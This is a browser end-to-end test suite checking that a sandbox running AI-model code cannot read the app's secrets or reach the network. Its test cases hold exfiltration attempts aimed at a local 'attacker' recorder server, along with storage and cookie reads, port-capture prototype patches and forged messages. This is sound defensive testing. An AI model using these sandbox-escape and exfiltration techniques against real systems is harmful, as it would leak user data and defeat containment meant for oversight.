/**
 * What model code can reach from the realm: nothing of the app, and nothing
 * on the network. Every attack runs through the real path (the executor in
 * the realm worker) and, where a document matters, from the sandbox iframe's
 * document itself. Ground truth is the servers' own request logs: the app's
 * static server and a second "attacker" server on another port.
 */
import { createHash } from "node:crypto";
import { readFileSync } from "node:fs";
import { join } from "node:path";
import { afterAll, afterEach, describe, expect } from "vitest";
import { DIST_DIR, ROOT_DIR, serveRecorder, waitFor, type TestServer } from "./harness";
import {
  ATTEMPT,
  attack as attackRealm,
  checkRecorder,
  expectAllFailed as failed,
  nestedWorkerAttack,
  plantSecrets,
  probeDocument,
  startRealmTestContext,
  type RealmPage,
  type RealmTestContext,
} from "./fixtures/realmTestPage";
import { appTest, nextPaint, requestsSettled } from "./fixture";

const FAKE_KEY = "sk-test-LIVEMARK-FAKE-KEY-1234567890";
/** What the app's own server may legitimately serve to the test page (with the service worker and the manifest's files). */
const APP_FILES =
  /\/(realm-test\.html|realm-test-assets\/.+\.js|generated\/realm\.js|sandbox\.html|realm-start\.js|favicon\.ico|index\.html|assets\/[^/]+\.(js|css|woff2)|sw\.js|workbox-[\w-]+\.js|manifest\.webmanifest|icons\/[\w-]+\.(png|svg)|)(\?__WB_REVISION__=\w+)?$/;

let context: RealmTestContext;
let realm: RealmPage;
let attacker: TestServer;
let target: string;

const it = appTest();
it.beforeAll(async ({ browser, attacker: recorder }) => {
  attacker = recorder;
  target = attacker.url;
  context = await startRealmTestContext({ browser });
  realm = await context.open();
  // Control: the attacker server does record what reaches it.
  await checkRecorder(realm.page, attacker);
  realm.requests.clear();
  // The app's secrets, where the app keeps them.
  await plantSecrets(realm.page, FAKE_KEY);
});

afterEach(async () => {
  // Nothing may ever reach the attacker, and the app's server sees only the
  // app. Every request the page made has landed (or failed) before looking.
  await nextPaint(realm.page);
  await requestsSettled(realm.requests);
  expect(attacker.requests.map((request) => request.url)).toEqual([]);
  expect(context.server.requests.map((request) => request.url).filter((url) => !APP_FILES.test(url))).toEqual([]);
  expect(await realm.requests.answeredOutside(context.server.url, context.server.origin + "/favicon.ico")).toEqual([]);
  realm.requests.clear();
});

afterAll(async () => {
  await context?.close();
});

/** Run attack code in the realm; it reports with `console.log(JSON.stringify(...))`. */
const attack = (code: string) => attackRealm(realm, code, FAKE_KEY);

describe("the realm cannot read the app's data", () => {
  it("has no storage, cookies or documents of the app", async () => {
    const report = await attack(`${ATTEMPT}
      await attempt("indexedDB.open", () => new Promise((resolve, reject) => {
        const request = indexedDB.open("livemark-secrets");
        request.onsuccess = () => resolve("opened " + [...request.result.objectStoreNames]);
        request.onerror = () => reject(request.error);
      }));
      await attempt("indexedDB.databases", async () => { throw new Error(JSON.stringify(await indexedDB.databases())) ; });
      await attempt("localStorage", () => localStorage.getItem("livemark.settings.v1"));
      await attempt("sessionStorage", () => sessionStorage.getItem("livemark.secret"));
      await attempt("document.cookie", () => document.cookie);
      await attempt("parent.document", () => parent.document.title);
      await attempt("top.document", () => top.document.title);
      await attempt("caches", () => caches.keys());
      await attempt("cookieStore", () => cookieStore.getAll());
      console.log(JSON.stringify(report));
    `);
    expect(Object.keys(report)).toHaveLength(9);
    failed(report);
    // The opaque origin is why: storage throws SecurityError rather than being empty.
    expect(report["indexedDB.open"]).toMatch(/SecurityError/);
  });

  it("cannot see the API key anywhere it can look", async () => {
    const report = await attack(`${ATTEMPT}
      const seen = [self.name, String(self.location), navigator.userAgent, JSON.stringify(Object.getOwnPropertyNames(self))];
      await attempt("key visible", () => { if (seen.join(" ").includes("sk-test")) return "visible"; throw new Error("not visible"); });
      console.log(JSON.stringify(report));
    `);
    failed(report);
  });

  it("the worker's loader (sandbox.html) leaves nothing in the realm: no note of its own, no message handler", async () => {
    // The worker starts with the sandbox document and evaluates the bundle it is sent once; the realm takes the
    // loader's note (when the bundle came) off the global scope before model code runs.
    const report = await attack(`
      console.log(JSON.stringify({
        note: String("livemarkBundleAt" in self),
        handler: self.onmessage === null ? "none" : typeof self.onmessage,
      }));
    `);
    expect(report).toEqual({ note: "false", handler: "none" });
  });

  it("the sandbox document cannot read storage, cookies or the parent either", async () => {
    const frame = realm.sandboxFrame();
    const report = await probeDocument(
      frame,
      async ({ attempt }) => {
        await attempt("origin is opaque", () => {
          if (self.origin === "null") throw new Error("opaque");
          return self.origin;
        });
        await attempt("localStorage", () => localStorage.getItem("livemark.settings.v1"));
        await attempt("sessionStorage", () => sessionStorage.getItem("livemark.secret"));
        await attempt("document.cookie", () => document.cookie);
        await attempt("indexedDB.open", () => indexedDB.open("livemark-secrets"));
        await attempt("parent.document", () => parent.document.title);
        await attempt("top.document", () => top!.document.title);
        await attempt("parent.localStorage", () => (parent as Window).localStorage.length);
        await attempt("top.location.href", () => top!.location.href);
      },
      undefined,
    );
    failed(report);
    expect(JSON.stringify(report)).not.toContain("sk-test");
  });
});

describe("nothing leaves the realm", () => {
  it("fetch, XHR, WebSocket, EventSource, importScripts and import() all fail", async () => {
    const ws = target.replace("http:", "ws:");
    const report = await attack(`${ATTEMPT}
      const target = ${JSON.stringify(target)};
      await attempt("fetch", () => fetch(target + "fetch").then((response) => response.text()));
      await attempt("fetch no-cors", () => fetch(target + "no-cors", { mode: "no-cors" }).then(() => "sent"));
      await attempt("XMLHttpRequest", () => new Promise((resolve, reject) => {
        const request = new XMLHttpRequest();
        request.open("GET", target + "xhr");
        request.onload = () => resolve(request.responseText);
        request.onerror = () => reject(new Error("xhr error"));
        request.send();
      }));
      await attempt("WebSocket", () => new Promise((resolve, reject) => {
        const socket = new WebSocket(${JSON.stringify(ws)} + "ws");
        socket.onopen = () => resolve("open");
        socket.onerror = () => reject(new Error("ws error"));
      }));
      await attempt("EventSource", () => new Promise((resolve, reject) => {
        const source = new EventSource(target + "sse");
        source.onopen = () => resolve("open");
        source.onerror = () => reject(new Error("sse error"));
      }));
      await attempt("importScripts", () => { importScripts(target + "import-scripts.js"); return self.__leaked; });
      await attempt("import()", () => (0, eval)("import(" + JSON.stringify(target + "dynamic-import.js") + ")"));
      await attempt("WebTransport", () => new WebTransport("https://127.0.0.1:1/wt").ready);
      await attempt("font", () => new FontFace("x", "url(" + target + "font.woff)").load());
      console.log(JSON.stringify(report));
    `);
    expect(Object.keys(report)).toHaveLength(9);
    failed(report);
    expect(report.fetch).toMatch(/CapabilityError: network capability not granted: GET http:\/\/127\.0\.0\.1/);
  });

  it("a dynamic import() written directly in model code fails", async () => {
    const result = await realm.run(
      `const leaked = await import(${JSON.stringify(target + "direct-import.js")}); console.log("imported", leaked)`,
    );
    expect(realm.output(result)).not.toContain("imported");
    const failure = result.events.find(
      (event) => (event.type === "statement-end" && event.status === "error") || event.type === "error",
    );
    expect(failure, JSON.stringify(result.events)).toBeDefined();
  });

  it("a nested worker with the platform's own network APIs is walled in too (CSP)", async () => {
    const report = await attack(`${ATTEMPT}
      ${nestedWorkerAttack(
        `const T = ${JSON.stringify(target)};`,
        `
          await attempt("fetch", () => fetch(T + "nested-fetch").then((r) => r.text()));
          await attempt("XMLHttpRequest", () => new Promise((resolve, reject) => {
            const request = new XMLHttpRequest();
            request.open("GET", T + "nested-xhr", false);
            request.send();
            resolve(request.responseText);
          }));
          await attempt("WebSocket", () => new Promise((resolve, reject) => {
            const socket = new WebSocket(T.replace("http:", "ws:") + "nested-ws");
            socket.onopen = () => resolve("open");
            socket.onerror = () => reject(new Error("ws error"));
          }));
          await attempt("EventSource", () => new Promise((resolve, reject) => {
            const source = new EventSource(T + "nested-sse");
            source.onopen = () => resolve("open");
            source.onerror = () => reject(new Error("sse error"));
          }));
          await attempt("importScripts", () => { importScripts(T + "nested.js"); return self.__leaked; });
          await attempt("import()", () => import(T + "nested-import.js"));
          await attempt("indexedDB", () => indexedDB.open("x"));
      `,
      )}
      console.log(JSON.stringify(report));
    `);
    expect(report["nested worker"]).toBe("failed: Error: reported");
    expect(Object.keys(report)).toHaveLength(8);
    failed(report);
  });

  it("the sandbox document cannot reach the network either", async () => {
    const frame = realm.sandboxFrame();
    const report = await probeDocument(
      frame,
      async ({ attempt, argument: target }) => {
        const loads = (
          element: HTMLElement & { src?: string; href?: string },
          attribute: "src" | "href",
          url: string,
        ) =>
          new Promise((resolve, reject) => {
            element.addEventListener("load", () => resolve("loaded"));
            element.addEventListener("error", () => reject(new Error("blocked")));
            element.setAttribute(attribute, url);
            document.body.append(element);
            setTimeout(() => reject(new Error("no load")), 1_000);
          });
        await attempt("fetch", () => fetch(target + "doc-fetch"));
        await attempt("sendBeacon", () => {
          if (navigator.sendBeacon(target + "doc-beacon", "x")) throw new Error("queued (must not reach the server)");
          throw new Error("refused");
        });
        await attempt("img", () => loads(document.createElement("img"), "src", target + "doc-img.png"));
        await attempt("script", () => loads(document.createElement("script"), "src", target + "doc-script.js"));
        await attempt("stylesheet", () => {
          const link = document.createElement("link");
          link.rel = "stylesheet";
          return loads(link, "href", target + "doc-style.css");
        });
        // A blocked frame still fires `load` (an error page): the servers' logs judge this one.
        const frame = document.createElement("iframe");
        frame.src = target + "doc-frame.html";
        document.body.append(frame);
        await attempt(
          "worker from URL",
          () =>
            new Promise((resolve, reject) => {
              try {
                const worker = new Worker(target + "doc-worker.js");
                worker.onerror = () => reject(new Error("blocked"));
                setTimeout(() => resolve("started?"), 1_000);
              } catch (error) {
                reject(error);
              }
            }),
        );
        await attempt("form post", () => {
          const form = document.createElement("form");
          form.action = target + "doc-form";
          form.method = "post";
          document.body.append(form);
          form.submit();
          throw new Error("submitted (must not reach the server)");
        });
        await attempt("window.open", () => {
          const opened = window.open(target + "doc-popup");
          if (opened) return "opened";
          throw new Error("blocked");
        });
        await attempt("top navigation", () => {
          top!.location.href = target + "doc-top";
          return "navigated";
        });
      },
      target,
    );
    // What the attempts set off (a frame, a form post, a navigation) has been drawn and its requests answered.
    await nextPaint(realm.page);
    await requestsSettled(realm.requests);
    failed(report);
  });
});

describe("the host trusts only its own port", () => {
  it("ignores messages posted to the app window by the sandbox document", async () => {
    const from = (await realm.events()).length;
    await realm.sandboxFrame().evaluate(() => {
      const forged = [
        { type: "exec-event", event: { type: "console", block: 0, statement: 0, level: "log", text: "FORGED" } },
        { type: "ready", version: 1, setupMs: 0 },
        { type: "livemark-sandbox-hello", version: 1 },
        { type: "result", id: 1, ok: true, value: null },
      ];
      for (const message of forged) parent.postMessage(message, "*");
      const channel = new MessageChannel();
      parent.postMessage({ type: "livemark-sandbox-hello", version: 1 }, "*", [channel.port2]);
      channel.port1.postMessage({
        type: "exec-event",
        event: { type: "console", block: 0, statement: 0, level: "log", text: "FORGED" },
      });
    });
    const result = await realm.run("console.log('still fine')");
    expect(realm.output(result)).toBe("still fine");
    const events = await realm.events(from);
    expect(JSON.stringify(events)).not.toContain("FORGED");
    expect(events.filter((event) => event.type === "realm-reset" || event.type === "realm-error")).toEqual([]);
    // Only one sandbox, started once: a second hello got no second bundle.
    expect(context.server.requests.filter((request) => request.url.endsWith("/generated/realm.js"))).toHaveLength(1);
  });

  it("realm code cannot post to the app window, nor capture the port", async () => {
    const report = await attack(`${ATTEMPT}
      await attempt("parent.postMessage", () => parent.postMessage({ type: "exec-event" }, "*"));
      await attempt("top.postMessage", () => top.postMessage({ type: "exec-event" }, "*"));
      self.postMessage({ type: "exec-event", event: { type: "console", block: 0, statement: 0, level: "log", text: "FORGED" } });
      const seen = [];
      const original = MessagePort.prototype.postMessage;
      // The prototype is frozen now (the patch throws); either way no port may be seen.
      try { MessagePort.prototype.postMessage = function (...args) { seen.push(this); return original.apply(this, args); }; } catch {}
      console.log("probe");
      await sleep(20);
      try { MessagePort.prototype.postMessage = original; } catch {}
      await attempt("captured port", () => { if (seen.length) return seen.length + " ports"; throw new Error("none"); });
      console.log(JSON.stringify(report));
    `);
    failed(report);
  });
});

describe("the realm's own channel and primitives", () => {
  it("redefining MessageEvent.prototype.data does not hand model code the runtime's event or port", async () => {
    const report = await attack(`${ATTEMPT}
      const caught = [];
      await attempt("redefine data", () => {
        const original = Object.getOwnPropertyDescriptor(MessageEvent.prototype, "data");
        Object.defineProperty(MessageEvent.prototype, "data", {
          configurable: true,
          get() { caught.push(this); return original.get.call(this); },
        });
        return "redefined";
      });
      await attempt("redefine via __proto__ setter", () => {
        MessageEvent.prototype.__defineGetter__("data", function () { caught.push(this); return 1; });
        return "redefined";
      });
      console.log("probe");
      await sleep(50);
      await attempt("caught an event", () => { if (caught.length) return caught.length + " events, target " + caught[0].target; throw new Error("none"); });
      await attempt("flood through a caught port", () => {
        const port = caught.map((event) => event.target).find(Boolean);
        if (!port) throw new Error("no port");
        for (let i = 0; i < 1000; i++) port.postMessage({ type: "mount", kind: "open", mountId: "x" + i, snapshot: { nodes: [] } });
        return "sent";
      });
      console.log(JSON.stringify(report));
    `);
    failed(report);
    // And the realm still works.
    const after = await realm.run("console.log('still here')");
    expect(realm.output(after)).toBe("still here");
  });

  it("the platform's network primitives are gone from the whole prototype chain of the realm's global", async () => {
    const target = attacker.url;
    const report = await attack(`${ATTEMPT}
      const target = ${JSON.stringify(target)};
      const chain = [];
      for (let o = Object.getPrototypeOf(self); o && o !== Object.prototype; o = Object.getPrototypeOf(o)) chain.push(o);
      for (const [index, proto] of chain.entries()) {
        for (const name of ["fetch", "XMLHttpRequest", "WebSocket", "EventSource", "importScripts"]) {
          if (!Object.prototype.hasOwnProperty.call(proto, name)) continue;
          await attempt("proto " + index + " " + name, async () => {
            const value = proto[name];
            if (name === "fetch") return value === fetch ? Promise.reject(new Error("the realm's own fetch")) : (await value.call(self, target + "proto-fetch")).status;
            if (name === "importScripts") return value.call(self, target + "proto-import.js");
            return new value(target + "proto-" + name);
          });
        }
      }
      await attempt("getPrototypeOf(self).fetch", () => Object.getPrototypeOf(self).fetch(target + "proto-direct").then((response) => response.status));
      await attempt("restore fetch from a prototype", () => { delete self.fetch; return typeof self.fetch; });
      await attempt("worker from a URL the realm did not make", () => new Worker(target + "worker.js"));
      console.log(JSON.stringify(report));
    `);
    failed(report);
    expect(report["getPrototypeOf(self).fetch"]).toMatch(/CapabilityError/);
  });
});

describe("the app page", () => {
  it("ships a CSP that runs only its own scripts and frames only its sandbox, and loads without violations", async () => {
    const html = readFileSync(join(DIST_DIR, "index.html"), "utf8");
    const csp = /http-equiv="Content-Security-Policy" content="([^"]+)"/.exec(html)?.[1] ?? "";
    expect(csp).toMatch(/script-src 'self'(;|$)/);
    expect(csp).toMatch(/frame-src 'self'(;|$)/);
    expect(csp).toMatch(/object-src 'none'/);
    expect(html.indexOf("Content-Security-Policy")).toBeLessThan(html.indexOf("<script"));

    // No service worker: this is the attribute-sandboxed frame of a page none controls (e2e/offline.test.ts has the other).
    const browserContext = await context.browser.newContext({ serviceWorkers: "block" });
    const page = await browserContext.newPage();
    try {
      const violations: string[] = [];
      page.on("console", (message) => {
        if (/Content Security Policy/i.test(message.text())) violations.push(message.text());
      });
      await page.addInitScript(() => {
        document.addEventListener("securitypolicyviolation", (event) => {
          console.error(`Content Security Policy violation: ${event.violatedDirective} ${event.blockedURI}`);
        });
      });
      const bundleFetches = () =>
        context.server.requests.filter((request) => request.url.endsWith("/generated/realm.js")).length;
      // With a key in the app's storage: the app reads it, its sandbox cannot.
      await page.goto(context.server.url);
      await page.evaluate(
        (key) => localStorage.setItem("livemark.settings.v1", JSON.stringify({ provider: "openai", apiKey: key })),
        FAKE_KEY,
      );
      const before = bundleFetches();
      await page.reload();
      const frame = (await waitFor(() => page.frames().find((each) => each.url().endsWith("/sandbox.html")), 15_000))!;
      expect(await frame.evaluate(() => self.origin)).toBe("null");
      expect(await page.evaluate(() => document.querySelector("iframe")?.getAttribute("sandbox"))).toBe(
        "allow-scripts",
      );
      expect(
        await frame.evaluate(() => {
          try {
            return localStorage.getItem("livemark.settings.v1");
          } catch (error) {
            return (error as Error).name;
          }
        }),
      ).toBe("SecurityError");
      expect(await page.evaluate(() => localStorage.getItem("livemark.settings.v1"))).toContain("sk-test");
      // The realm host fetches the bundle once per page load (the spare realm reuses it).
      await waitFor(() => page.evaluate(() => document.querySelectorAll("iframe").length === 2), 30_000, 100);
      expect(bundleFetches() - before).toBe(1);
      // Both frames drawn: a violation of either has been reported by now.
      await nextPaint(page);
      expect(violations).toEqual([]);
    } finally {
      await browserContext.close();
    }
  });
});

describe("the dev server", () => {
  it("serves the app with the build's CSP (plus its HMR socket and a style nonce); the app runs under it and a smuggled CSS URL is blocked", async () => {
    const { createServer } = await import("vite");
    const server = await createServer({
      configFile: join(ROOT_DIR, "vite.config.ts"),
      root: ROOT_DIR,
      logLevel: "silent",
      server: { port: 0, host: "127.0.0.1", strictPort: false, hmr: false },
    });
    await server.listen();
    const browserContext = await context.browser.newContext();
    try {
      const url = server.resolvedUrls!.local[0];
      const html = await (await fetch(url)).text();
      const csp = /http-equiv="Content-Security-Policy" content="([^"]+)"/.exec(html)?.[1] ?? "";
      expect(csp).toMatch(/script-src 'self'(;|$)/);
      expect(csp).toMatch(/frame-src 'self'(;|$)/);
      expect(csp).toMatch(/object-src 'none'/);
      expect(csp).toMatch(/img-src 'self' data: blob:(;|$)/);
      expect(csp).toMatch(/style-src 'self' 'nonce-[A-Za-z0-9+/=]+'(;|$)/);
      expect(html.indexOf("Content-Security-Policy")).toBeLessThan(html.indexOf("<script"));

      const page = await browserContext.newPage();
      const violations: string[] = [];
      page.on("console", (message) => {
        if (/Content Security Policy/i.test(message.text())) violations.push(message.text());
      });
      await page.goto(url);
      await page.getByText("Sandbox ready").waitFor({ timeout: 60_000 });
      expect(violations).toEqual([]);
      // The wall the sanitizer must never be alone in front of: a CSS URL to another host is refused by the page itself.
      await page.evaluate((target) => {
        const item = document.createElement("ul");
        item.style.listStyleImage = `image-set("${target}dev-smuggled.png" 1x)`;
        item.append(document.createElement("li"));
        document.body.append(item);
      }, target);
      await expect.poll(() => violations.join("\n"), { timeout: 10_000 }).toMatch(/img-src/);
    } finally {
      await browserContext.close();
      await server.close();
    }
  });
});

describe("sandbox.html", () => {
  it("carries a strict CSP whose script hash matches its inline script", () => {
    const html = readFileSync(join(DIST_DIR, "sandbox.html"), "utf8");
    const csp = /http-equiv="Content-Security-Policy" content="([^"]+)"/.exec(html)?.[1] ?? "";
    const script = /<script>([\s\S]*?)<\/script>/.exec(html)?.[1] ?? "";
    const hash = createHash("sha256").update(script).digest("base64");
    expect(csp).toContain(`'sha256-${hash}'`);
    expect(csp).toMatch(/default-src 'none'/);
    expect(csp).toMatch(/connect-src 'none'/);
    expect(csp).toMatch(/worker-src blob:/);
    expect(csp).not.toMatch(/'unsafe-inline'|\*|https?:|data:/);
  });
});
